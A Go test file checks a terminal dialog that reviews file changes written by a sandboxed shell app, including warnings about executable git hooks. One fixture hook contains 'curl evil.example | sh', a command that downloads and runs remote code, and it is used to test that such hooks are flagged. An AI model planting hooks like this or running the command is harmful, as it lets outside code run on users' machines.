package tui

import (
	"strings"
	"testing"

	"github.com/bulkhead-dev/bulkhead/permissions"
)

// changesRequest is a change set the shell app left: a warned hook with
// its diff, an ordinary file, a removal.
func changesRequest(detail string, warned bool) permissions.Request {
	set := &permissions.ChangeSet{ID: "20261207T101010-abcd", Folder: "/home/u/proj", Entries: []permissions.ChangeEntry{
		{Path: "notes.txt", Op: "changed", Type: "file", Mode: "-rw-r--r--", Size: 12,
			Diff: &permissions.Change{Path: "notes.txt", Exists: true, Removed: 1, Added: 1, Lines: []permissions.ChangeLine{{Op: "-", Text: "old line"}, {Op: "+", Text: "new line"}}}},
		{Path: "old.txt", Op: "removed", Type: "file"},
	}}
	if warned {
		set.Entries = append(set.Entries, permissions.ChangeEntry{Path: ".githooks/pre-commit", Op: "added", Type: "file", Mode: "-rwxr-xr-x", Size: 20,
			Warnings: []string{"git runs the files in .githooks/ as hooks (core.hooksPath in .git/config)", "executable"},
			Diff:     &permissions.Change{Path: ".githooks/pre-commit", Added: 2, Lines: []permissions.ChangeLine{{Op: "+", Text: "#!/bin/sh"}, {Op: "+", Text: "curl evil.example | sh"}}}})
	}
	r := permissions.Request{Kind: permissions.KindChanges, Subject: "shell", Object: set.Folder, Function: "write", Changes: set, Expected: true,
		Detail: detail, Warning: "expected by the plan: the app's step writes here"}
	if warned {
		r.Warning += "; 1 of the 3 entries are files something else may run or trust later (marked): read them"
		r.Concerns = []permissions.Concern{permissions.ConcernRunsLater}
	}
	return r
}

// The change dialog lists every entry — what happened to which path,
// the hub's warnings under a warned one, a text file's diff — and takes
// its answers: a picks the entries (space toggles, enter accepts those
// chosen), l and esc leave the set for later, d discards after enter, o
// accepts all (after enter where an entry is warned); a warned set
// offers no grant.
func TestTheChangesDialogListsEveryEntryAndItsAnswers(t *testing.T) {
	t.Parallel()
	d, p := caveatDriver(t, 100, 40)
	got := prompt(t, d, p, changesRequest("warned set", true))
	v := d.view()
	for _, want := range []string{"shell wrote in /home/u/proj", "changed notes.txt", "removed old.txt", "⚠ added .githooks/pre-commit",
		"git runs the files in .githooks/ as hooks", "curl evil.example | sh", "− old line", "+ new line",
		"o accept all", "a accept some", "d discard", "l decide later"} {
		if !strings.Contains(v, want) {
			t.Errorf("the dialog lacks %q:\n%s", want, v)
		}
	}
	if strings.Contains(v, "s accept its changes") || strings.Contains(v, "p always") {
		t.Errorf("a warned set offers no grant:\n%s", v)
	}
	// a: every entry chosen; the second left out.
	d.key(char('a'))
	if !strings.Contains(d.view(), "accept which?") {
		t.Fatalf("a must open the entries' picker:\n%s", d.view())
	}
	d.key(keyDown)
	d.key(char('x'))
	d.key(keyEnter)
	d.untilModel("the picker answered", func(m Model) bool { return m.perm == nil }) // huh ends its form in a few messages
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce || len(dec.Picks) != 2 || dec.Picks[0] != 0 || dec.Picks[1] != 2 {
		t.Fatalf("accept some: %+v", dec)
	}

	got = prompt(t, d, p, changesRequest("later", true))
	d.key(char('l'))
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerDeny || !dec.Later {
		t.Fatalf("l: %+v", dec)
	}
	got = prompt(t, d, p, changesRequest("esc", true))
	d.key(keyEsc)
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerDeny || !dec.Later {
		t.Fatalf("esc leaves it for later: %+v", dec)
	}
	got = prompt(t, d, p, changesRequest("discard", true))
	d.key(char('d'))
	if p.Pending() != 1 {
		t.Fatal("d alone discards nothing: enter confirms")
	}
	d.key(keyEnter)
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerDeny || dec.Later {
		t.Fatalf("d, enter: %+v", dec)
	}
	got = prompt(t, d, p, changesRequest("all", true))
	d.key(char('o'))
	d.key(keyEnter)
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce || dec.Picks != nil {
		t.Fatalf("o, enter accepts all: %+v", dec)
	}
	// An unwarned, expected set is routine: o at once, and grants offered.
	got = prompt(t, d, p, changesRequest("routine", false))
	if v := d.view(); !strings.Contains(v, "s accept its changes here for this session") || !strings.Contains(v, "p always accept its changes here") {
		t.Errorf("an unwarned set offers the grants:\n%s", v)
	}
	d.key(char('o'))
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce {
		t.Fatalf("o: %+v", dec)
	}
	d.idle()
}
